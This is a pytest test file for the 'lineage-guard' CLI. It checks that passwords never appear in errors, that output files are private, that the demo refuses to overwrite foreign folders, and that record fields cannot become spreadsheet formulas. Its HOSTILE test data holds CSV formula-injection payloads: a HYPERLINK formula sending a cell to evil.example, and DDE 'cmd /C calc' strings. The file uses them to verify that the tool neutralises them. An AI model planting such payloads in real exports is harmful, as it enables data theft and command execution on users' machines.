"""Hostile use of the CLI: secrets never printed, private files, CSV formula injection, the
demo's folder, one-line errors. Each runs `lineage-guard` as a separate process."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import time
from pathlib import Path

import pytest

from lineage_guard.generate import generate
from lineage_guard.io.files import write_json_lines
from tests.cli import run_cli

PASSWORD = "S3cretPW"


def _clean_one_line_error(result: subprocess.CompletedProcess[str], code: int) -> str:
    assert result.returncode == code, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("lineage-guard: error: ")
    return lines[0]


def _input(tmp_path: Path, count: int = 60, **fields: str) -> Path:
    """A JSON Lines file of valid records; `fields` override tenant / source / generator."""
    records = []
    for g in generate(count, seed=11):
        record = g.record
        if "origin_env" in fields:
            record["provenance"]["origin_env"] = fields["origin_env"]
        if "tenant_id" in fields:
            record["tenant_id"] = fields["tenant_id"]
        if "source_system" in fields:
            record["provenance"]["source_system"] = fields["source_system"]
        if "generator" in fields and record["provenance"]["generator"] is not None:
            record["provenance"]["generator"]["name"] = fields["generator"]
        records.append(record)
    path = tmp_path / "in.jsonl"
    write_json_lines(path, records)
    return path


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql://u:{PASSWORD}@127.0.0.1:15432/x%zz",  # bad percent-encoding elsewhere
        f"postgresql://u:{PASSWORD}%zz@127.0.0.1:15432/db",  # in the password itself
        f"postgres://u:{PASSWORD}@[::1",  # Invalid IPv6 URL
        f"postgresql://u:{PASSWORD}@127.0.0.1:99999/db",  # port out of range
        f"postgresql://u@127.0.0.1/db?password={PASSWORD}&bogus=1",  # unknown parameter
    ],
)
def test_a_bad_store_url_is_one_line_exit_3_without_the_password(tmp_path: Path, url: str) -> None:
    for args in (
        ["lineage", "verify", "--lineage-store", url],
        ["lineage", "leaks", "--lineage-store", url],
        [
            "run",
            "--input",
            _input(tmp_path),
            "--output-dir",
            tmp_path / "o",
            "--lineage-store",
            url,
        ],
    ):
        result = run_cli(*args, timeout=120)
        line = _clean_one_line_error(result, 3)
        assert "Bad lineage store URL `" in line
        assert PASSWORD not in result.stdout + result.stderr
        assert "***" in line or "%2A%2A%2A" in line  # the password, hidden


def test_store_and_report_are_private(tmp_path: Path) -> None:
    store = tmp_path / "new" / "sub" / "lineage.db"
    result = run_cli(
        "run", "--input", _input(tmp_path), "--output-dir", tmp_path / "o",
        "--lineage-store", f"sqlite:///{store}",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert _mode(store) == 0o600
    assert _mode(tmp_path / "new") == _mode(tmp_path / "new" / "sub") == 0o700
    report = tmp_path / "r1" / "r2"
    result = run_cli("lineage", "report", "--lineage-store", f"sqlite:///{store}", "--out", report)
    assert result.returncode == 0, result.stderr
    assert _mode(tmp_path / "r1") == _mode(report) == 0o700
    files = sorted(p.name for p in report.iterdir())
    assert "report.html" in files and "report.json" in files and "by_tenant.csv" in files
    assert {_mode(report / name) for name in files} == {0o600}


def test_demo_output_is_private_and_its_folder_never_someone_elses(tmp_path: Path) -> None:
    folder = tmp_path / "demo"
    result = run_cli("demo", "--records", "50", "--dir", folder)
    assert result.returncode == 0, result.stderr
    assert _mode(folder) == _mode(folder / "out") == _mode(folder / "report") == 0o700
    for path in (folder / "lineage.db", folder / "crm_sync.jsonl", folder / "report/report.html"):
        assert _mode(path) == 0o600
    assert {_mode(p) for p in (folder / "out").iterdir()} == {0o600}

    (folder / "notes.txt").write_text("mine")  # a rerun replaces the demo's files only
    again = run_cli("demo", "--records", "40", "--dir", folder)
    assert again.returncode == 0, again.stderr
    assert (folder / "notes.txt").read_text() == "mine"
    assert "wrote 40 records" in again.stderr

    users = tmp_path / "users"
    users.mkdir()
    (users / "source.py").write_text("print('keep me')")
    refused = run_cli("demo", "--records", "50", "--dir", users)
    assert _clean_one_line_error(refused, 2) == (
        f"lineage-guard: error: `--dir {users}` is not empty and was not made by"
        " `lineage-guard demo`: nothing was changed. Choose a new or empty folder."
    )
    assert sorted(p.name for p in users.iterdir()) == ["source.py"]

    here = subprocess.run(
        [*_cli(), "demo", "--records", "50", "--dir", "."],
        cwd=users, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert "is the current folder or one of its parents" in _clean_one_line_error(here, 2)
    assert sorted(p.name for p in users.iterdir()) == ["source.py"]

    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    refused = run_cli("demo", "--records", "50", "--dir", a_file)
    assert "exists and is not a folder" in _clean_one_line_error(refused, 2)
    assert a_file.read_text() == "x"


HOSTILE = {
    "tenant_id": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "source_system": "+cmd|' /C calc'!A0",
    "generator": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    "values",
    [
        HOSTILE,
        {"tenant_id": "-2+3", "source_system": "\tsrc;=1+2", "generator": "\r=1+2"},
    ],
)
def test_record_fields_never_become_formulas_in_any_csv(
    tmp_path: Path, values: dict[str, str]
) -> None:
    store = f"sqlite:///{tmp_path / 'lineage.db'}"
    source = _input(tmp_path, 30, origin_env="TEST", **values)  # test data: blocked
    result = run_cli(
        "run", "--input", source, "--output-dir", tmp_path / "o", "--lineage-store", store,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr

    leaks = run_cli("lineage", "leaks", "--lineage-store", store, "--format", "csv")
    assert leaks.returncode == 0, leaks.stderr
    leak_rows = _rows(leaks.stdout)
    assert len(leak_rows) == 30  # every record: a leak attempt the production policy blocked
    record_id = next(row["record_id"] for row in leak_rows if row["generator"])  # AI content
    trace = run_cli("lineage", "trace", record_id, "--lineage-store", store, "--format", "csv")
    assert trace.returncode == 0, trace.stderr
    trace_rows = _rows(trace.stdout)
    report = tmp_path / "report"
    assert run_cli("lineage", "report", "--lineage-store", store, "--out", report).returncode == 0
    tenant_rows = _rows((report / "by_tenant.csv").read_text())
    source_rows = _rows((report / "by_source_system.csv").read_text())
    generator_rows = _rows((report / "by_generator.csv").read_text())

    # Text streams read CR as a line end: compare with CR and LF alike.
    quoted = {key: ("'" + value).replace("\r", "\n") for key, value in values.items()}
    for rows in (leak_rows, trace_rows):
        assert {row["tenant_id"] for row in rows} == {quoted["tenant_id"]}
        assert {row["source_system"] for row in rows} == {quoted["source_system"]}
        assert quoted["generator"] in {row["generator"] for row in rows}
    assert [row["tenant_id"] for row in tenant_rows] == [quoted["tenant_id"]]
    assert [row["source_system"] for row in source_rows] == [quoted["source_system"]]
    assert [row["generator"] for row in generator_rows] == [quoted["generator"]]
    for text in (leaks.stdout, trace.stdout, (report / "by_tenant.csv").read_text()):
        # Every cell is quoted, so a `;` or `,` inside a value cannot start a new cell, and
        # no cell (after its opening quote) starts with a formula character.
        for line in csv.reader(io.StringIO(text)):
            assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)
        assert text.splitlines()[0].startswith('"')


def test_report_out_and_output_dir_that_are_files_are_one_line_errors(tmp_path: Path) -> None:
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    store = f"sqlite:///{tmp_path / 'lineage.db'}"
    source = _input(tmp_path, 10)
    result = run_cli("run", "--input", source, "--output-dir", a_file, "--lineage-store", store)
    assert _clean_one_line_error(result, 2) == (
        f"lineage-guard: error: Cannot write to `--output-dir {a_file}`: it exists and is not"
        " a folder."
    )
    assert run_cli("run", "--input", source, "--output-dir", tmp_path / "o",
                   "--lineage-store", store).returncode == 0  # fmt: skip
    result = run_cli("lineage", "report", "--lineage-store", store, "--out", a_file)
    assert _clean_one_line_error(result, 2) == (
        f"lineage-guard: error: Cannot write the report to `{a_file}`: it exists and is not"
        " a folder."
    )
    assert a_file.read_text() == "x"


@pytest.mark.parametrize("kind", ["read-only", "not a database"])
def test_a_store_that_cannot_work_exits_3_at_once(tmp_path: Path, kind: str) -> None:
    source = _input(tmp_path, 20)
    db = tmp_path / "lineage.db"
    made = run_cli("run", "--input", source, "--output-dir", tmp_path / "o",
                   "--lineage-store", f"sqlite:///{db}")  # fmt: skip
    assert made.returncode == 0, made.stderr
    immutable = False
    if kind == "read-only":
        db.chmod(0o444)
        if os.geteuid() == 0:  # root writes through file modes: make the file immutable
            immutable = subprocess.run(["chattr", "+i", db], capture_output=True).returncode == 0
            if not immutable:
                pytest.skip("running as root on a file system without `chattr +i`")
    else:
        db.write_bytes(b"not a database, only text " * 200)
    try:
        started = time.monotonic()
        result = run_cli("run", "--input", source, "--output-dir", tmp_path / "o2",
                         "--lineage-store", f"sqlite:///{db}")  # fmt: skip
        took = time.monotonic() - started
    finally:
        if immutable:
            subprocess.run(["chattr", "-i", db], check=True)
    line = _clean_one_line_error(result, 3)
    expected = (
        "attempt to write a readonly database"
        if kind == "read-only"
        else ("file is not a database")
    )
    assert expected in line
    assert took < 30  # not the 5-minute outage budget
    assert not any((tmp_path / "o2").glob("*.allowed.jsonl")) or all(
        p.stat().st_size == 0 for p in (tmp_path / "o2").glob("*.jsonl")
    )  # nothing delivered without lineage


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def _cli() -> list[str]:
    import sys

    return [sys.executable, "-c", "from lineage_guard.cli.main import main; main()"]


def test_a_bad_openlineage_target_is_one_line_exit_3_without_the_password(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_json_lines(source, [g.record for g in generate(3)])
    result = run_cli(
        "run", "--input", source, "--output-dir", tmp_path / "out", "--no-lineage",
        "--openlineage", "gopher://ops:s3cret-pw@lineage.example:70/",
    )  # fmt: skip
    assert result.returncode == 3, result.stderr
    assert result.stderr.startswith("lineage-guard: error: Unknown OpenLineage target")
    assert "gopher://ops:***@lineage.example:70/" in result.stderr
    assert "s3cret-pw" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize(
    ("setting", "named"),
    [
        ("security.protocol=plaintextt", '"security.protocol"'),
        ("no.such.property=1", '"no.such.property"'),
        ("socket.timeout.ms=soon", '"socket.timeout.ms"'),
    ],
)
def test_a_kafka_setting_librdkafka_refuses_is_one_line_exit_3(setting: str, named: str) -> None:
    """Refused when the first Kafka client is made, before any broker is asked (nothing
    listens on port 9): a traceback with exit 1 before."""
    result = run_cli(
        "run", "--bootstrap-servers", "127.0.0.1:9", "--input-topic", "in", "--output-topic",
        "out", "--quarantine-topic", "q", "--until-caught-up", "--no-lineage",
        "--kafka-config", setting, timeout=120,
    )  # fmt: skip
    line = _clean_one_line_error(result, 3)
    assert "Kafka refused a client setting" in line and named in line and "--kafka-config" in line
